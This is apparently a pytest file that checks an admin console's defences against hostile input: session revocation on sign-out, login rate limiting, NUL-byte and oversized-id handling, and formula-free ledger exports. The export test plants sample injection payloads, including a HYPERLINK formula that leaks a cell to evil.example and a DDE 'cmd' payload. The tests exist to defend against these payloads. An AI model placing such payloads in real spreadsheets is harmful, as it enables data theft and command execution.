"""The console under hostile input: sign-out ends the session on the server, sign-in attempts are limited per
client address before any password is hashed, numbers from outside that fit no id are a 404 (or ignored as a
filter), and the ledger downloads carry no live formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.admin import auth
from bot.app import create_app
from bot.clock import FakeClock
from bot.services import Services
from storage.db import transaction
from storage.models import AuditLog, Order, ServiceRecord, Volunteer
from storage.models_admin import LoginAttempt, StaffAccount
from tests.bot.admin.test_admin import PASSWORD, Seeded, form_token, login, post, seed_console, text
from tests.conftest import make_services, untested_client

HUGE = "9" * 20  # over a signed 64-bit integer
JUST_OVER = "9223372036854775808"  # 2**63



@pytest.fixture
def console(services: Services) -> Any:
    return untested_client(services)


@pytest.fixture
def any_db_console(any_db_url: str, clock: FakeClock, fake_wechat: Any) -> Iterator[tuple[Services, Any]]:
    """The seeded console on each database under test (SQLite, and PostgreSQL when configured), as `console`."""
    svc = make_services(any_db_url, clock, fake_wechat)
    try:
        seed_console(svc)
        yield svc, untested_client(svc)
    finally:
        svc.close()


def _hashes(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every password verification from now on (each one is ~0.5 s of argon2 on a web worker)."""
    calls: list[str] = []
    real = auth.verify_password

    def counted(stored: str, password: str) -> bool:
        calls.append(password)
        return real(stored, password)
    monkeypatch.setattr(auth, "verify_password", counted)
    return calls


# -- signing out ends the session -----------------------------------------------------------------


def test_a_cookie_copied_before_logout_no_longer_works(console: Any, seeded: Seeded, services: Services) -> None:
    assert login(console, "xiaoli").status_code == 302
    copied = console.get_cookie("session").value
    thief = create_app(services=services).test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/admin/orders").status_code == 200  # the copy works while the owner is signed in
    assert post(console, "/admin/logout").status_code == 302
    assert thief.get("/admin/orders").status_code == 302  # and not after they signed out
    assert "/admin/login" in thief.get("/admin/dashboard").headers["Location"]
    assert login(console, "xiaoli").status_code == 302 and console.get("/admin/orders").status_code == 200
    with services.sessions() as s:
        assert "staff_logout" in s.scalars(select(AuditLog.action)).all()


def test_logout_signs_out_only_that_account(console: Any, seeded: Seeded, services: Services) -> None:
    other = create_app(services=services).test_client()
    assert login(other, "boss").status_code == 302
    assert login(console, "xiaoli").status_code == 302
    post(console, "/admin/logout")
    assert other.get("/admin/orders").status_code == 200


# -- sign-in attempts are limited before hashing --------------------------------------------------


def test_failed_sign_ins_from_one_address_are_stopped_before_hashing(seeded: Seeded, services: Services,
                                                                      clock: FakeClock,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    app = create_app(services=services)
    attacker = app.test_client()
    attacker.environ_base["REMOTE_ADDR"] = "203.0.113.7"
    hashed = _hashes(monkeypatch)
    limit = auth.LockoutRule().address_attempts
    for i in range(limit):  # a different name each time: the per-name lock-out never trips
        assert login(attacker, f"guess{i}", "wrong-password-123").status_code == 401
    assert len(hashed) == limit
    resp = login(attacker, "xiaoli")  # even the right password: this address is locked for now
    assert resp.status_code == 401 and "登录失败次数过多" in text(resp) and "分钟后再试" in text(resp)
    assert len(hashed) == limit, "a locked address costs no hashing"
    office = app.test_client()
    office.environ_base["REMOTE_ADDR"] = "198.51.100.20"
    assert login(office, "xiaoli").status_code == 302  # other addresses sign in as usual
    clock.advance(minutes=auth.LockoutRule().minutes + 1)
    assert login(attacker, "xiaoli").status_code == 302  # the window has passed
    with services.sessions() as s:
        addrs = set(s.scalars(select(LoginAttempt.remote_addr)))
    assert addrs == {"203.0.113.7", "198.51.100.20"}


def test_a_locked_name_costs_no_hashing(client: Any, seeded: Seeded, monkeypatch: pytest.MonkeyPatch) -> None:
    hashed = _hashes(monkeypatch)
    for _ in range(5):
        login(client, "xiaoli", "wrong-password-123")
    assert len(hashed) == 5
    assert "锁定" in text(login(client, "xiaoli"))
    assert len(hashed) == 5


@pytest.mark.parametrize("username", ["用户\u2028名", "xiao\x1bli", "xiao li", "x" * 2, "零零零"])
def test_an_impossible_username_is_refused_on_either_database(any_db_console: tuple[Services, Any], username: str,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    svc, client = any_db_console
    hashed = _hashes(monkeypatch)
    resp = login(client, username, PASSWORD)
    assert resp.status_code == 401 and "用户名或密码不对" in text(resp)
    assert hashed == [], "no account can have that name: nothing to hash"
    with svc.sessions() as s:
        assert s.scalar(select(LoginAttempt.username).order_by(LoginAttempt.id.desc()).limit(1)) is not None


NUL_FORMS = [("/admin/login", {"username": "xiao\x00li", "password": PASSWORD}),
             ("/admin/login", {"username": "xiaoli", "password": "pass\x00word-123"}),
             ("/admin/staff", {"username": "newleader", "password": "long-enough-pw", "role": "leader",
                               "team_code": "hair\x00cut"}),
             ("/admin/broadcasts/preview", {"kind": "team", "arg": "hair\x00cut", "text": "通知"}),
             ("/admin/events", {"title": "活\x00动", "day": "2026-12-05", "start": "09:00", "end": "10:00",
                                "place": "广场"}),
             ("/admin/catalogue/new", {"code": "new_svc", "name": "新\x00服务", "description": "x", "team": "haircut",
                                       "duration_minutes": "60", "keywords": "新"})]


@pytest.mark.parametrize("path,data", NUL_FORMS)
def test_a_nul_in_any_form_is_a_400_on_either_database(any_db_console: tuple[Services, Any], path: str,
                                                      data: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    _svc, client = any_db_console
    if path != "/admin/login":
        assert login(client, "boss").status_code == 302
    hashed = _hashes(monkeypatch)
    token = form_token(client, "/admin/login" if path == "/admin/login" else "/admin/orders")
    resp = client.post(path, data={"csrf_token": token, **data})
    assert resp.status_code == 400 and "无法识别的字符" in text(resp), path
    assert hashed == []


@pytest.mark.parametrize("query", ["/admin/orders?service=%00", "/admin/volunteers?q=%00", "/admin/orders?state=%00",
                                   "/admin/ledger?month=2026-11%00", "/admin/catalogue/hair%00cut",
                                   "/admin/login?next=/admin/%00"])
def test_a_nul_in_a_query_or_path_is_a_400_on_either_database(any_db_console: tuple[Services, Any], query: str) -> None:
    _svc, client = any_db_console
    assert login(client, "boss").status_code == 302
    resp = client.get(query)
    assert resp.status_code == 400 and "无法识别的字符" in text(resp), query


# -- numbers from outside -------------------------------------------------------------------------


ID_PATHS = ["/admin/orders/{}", "/admin/volunteers/{}", "/admin/broadcasts/{}"]


@pytest.mark.parametrize("value", [HUGE, JUST_OVER, "0"])
@pytest.mark.parametrize("template", ID_PATHS)
def test_ids_in_the_path_that_fit_nothing_are_404s(console: Any, seeded: Seeded, template: str, value: str) -> None:
    login(console, "xiaoli")
    resp = console.get(template.format(value))
    assert resp.status_code == 404 and "没有找到" in text(resp)


@pytest.mark.parametrize("path", [
    "/admin/orders/{}/assign", "/admin/orders/{}/support", "/admin/orders/{}/cancel", "/admin/orders/{}/confirm",
    "/admin/orders/{}/review", "/admin/volunteers/{}/status/approved", "/admin/volunteers/{}/dismiss",
    "/admin/events/{}/move", "/admin/events/{}/cancel", "/admin/catalogue/versions/{}/restore",
    "/admin/staff/{}/disable"])
def test_ids_in_a_form_action_that_fit_nothing_are_404s(console: Any, seeded: Seeded, path: str) -> None:
    login(console, "boss")
    data = {"reason": "x", "note": "x", "volunteer_id": "1", "reason_code": "x", "day": "2026-12-01",
            "start": "09:00", "end": "10:00"}
    for value in (HUGE, JUST_OVER if "versions" not in path else "2147483648"):
        assert post(console, path.format(value), data).status_code == 404, (path, value)


@pytest.mark.parametrize("query", [
    f"page={HUGE}", "page=²", "page=-1", "page=0", f"team={HUGE}", "team=²", f"team={JUST_OVER}",
    "from=9999-12-31&to=9999-12-31", "from=0001-01-01", "to=9999-12-31", "from=²⁰²⁶-11-01",
    f"state={HUGE}", "service=nosuch", "service=²"])
def test_orders_board_filters_that_fit_nothing_do_not_break_it(console: Any, seeded: Seeded, query: str) -> None:
    login(console, "xiaoli")
    resp = console.get(f"/admin/orders?{query}")
    assert resp.status_code == 200, query


@pytest.mark.parametrize("query", [f"q={HUGE}", "q=²", f"q={JUST_OVER}", f"team={HUGE}", "team=²",
                                   f"status={HUGE}"])
def test_volunteer_filters_that_fit_nothing_do_not_break_it(console: Any, seeded: Seeded, query: str) -> None:
    login(console, "xiaoli")
    assert console.get(f"/admin/volunteers?{query}").status_code == 200, query


@pytest.mark.parametrize("path", ["/admin/events?month=9999-12", "/admin/events?month=0000-01",
                                  "/admin/events?month=2026-99", "/admin/events?month=" + HUGE + "-1",
                                  "/admin/ledger?month=9999-12", "/admin/ledger?month=0000-01",
                                  "/admin/ledger?month=" + HUGE + "-01", "/admin/ledger/export.csv?month=9999-12",
                                  "/admin/ledger/export.xlsx?month=0000-01"])
def test_months_that_fit_no_calendar_fall_back_to_this_month(console: Any, seeded: Seeded, path: str) -> None:
    login(console, "xiaoli")
    assert console.get(path).status_code == 200, path


def test_a_huge_volunteer_number_in_the_assign_form_is_a_plain_refusal(console: Any, seeded: Seeded,
                                                                       services: Services) -> None:
    login(console, "xiaoli")
    for value in (HUGE, "²", JUST_OVER, "0"):
        resp = post(console, f"/admin/orders/{seeded.haircut_order}/assign", {"volunteer_id": value})
        assert resp.status_code == 302, value
        assert "志愿者编号" in text(console.get(resp.headers["Location"])), value
    with services.sessions() as s:
        assert s.get(Order, seeded.haircut_order).state == "dispatched"  # type: ignore[union-attr]


def test_a_hub_that_fits_no_id_is_refused(console: Any, seeded: Seeded) -> None:
    login(console, "boss")
    for value in (HUGE, "²", "0"):
        resp = post(console, "/admin/hub", {"hub": value, "next": "/admin/orders"})
        assert resp.status_code in (302, 404), value
    assert console.get("/admin/orders").status_code == 200


# -- exports carry no formulas --------------------------------------------------------------------


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")'


def _evil_record(services: Services, seeded: Seeded) -> None:
    with transaction(services.sessions) as s:
        rec = s.execute(select(ServiceRecord).where(ServiceRecord.order_id == seeded.flagged_order)).scalar_one()
        rec.comment = EVIL
        rec.content = "@SUM(1+1)"
        s.get_one(Volunteer, rec.volunteer_id).name = "+cmd|' /C calc'!A0"


def test_console_downloads_neutralise_formulas(staff_client: Any, seeded: Seeded, services: Services) -> None:
    _evil_record(services, seeded)
    body = staff_client.get("/admin/ledger/export.csv?month=2026-11").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells and "'@SUM(1+1)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    summary = staff_client.get("/admin/ledger/export.summary.csv?month=2026-11").get_data().decode("utf-8-sig")
    assert "'+cmd|' /C calc'!A0" in summary
    book = load_workbook(io.BytesIO(staff_client.get("/admin/ledger/export.xlsx?month=2026-11").get_data()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    records = [[c.value for c in row] for row in book["服务记录"].iter_rows()]
    assert any(row[12] == "'" + EVIL and isinstance(row[8], float | int) for row in records[1:])


def test_logout_changes_only_the_session_stamp(console: Any, seeded: Seeded, services: Services) -> None:
    """The stamp rotates on logout; the account itself is untouched (still active, same password)."""
    login(console, "xiaoli")
    with services.sessions() as s:
        before = s.execute(select(StaffAccount).where(StaffAccount.username == "xiaoli")).scalar_one()
        stamp, pw = before.session_stamp, before.password_hash
    post(console, "/admin/logout")
    with services.sessions() as s:
        after = s.execute(select(StaffAccount).where(StaffAccount.username == "xiaoli")).scalar_one()
        assert after.session_stamp != stamp and after.password_hash == pw and after.active
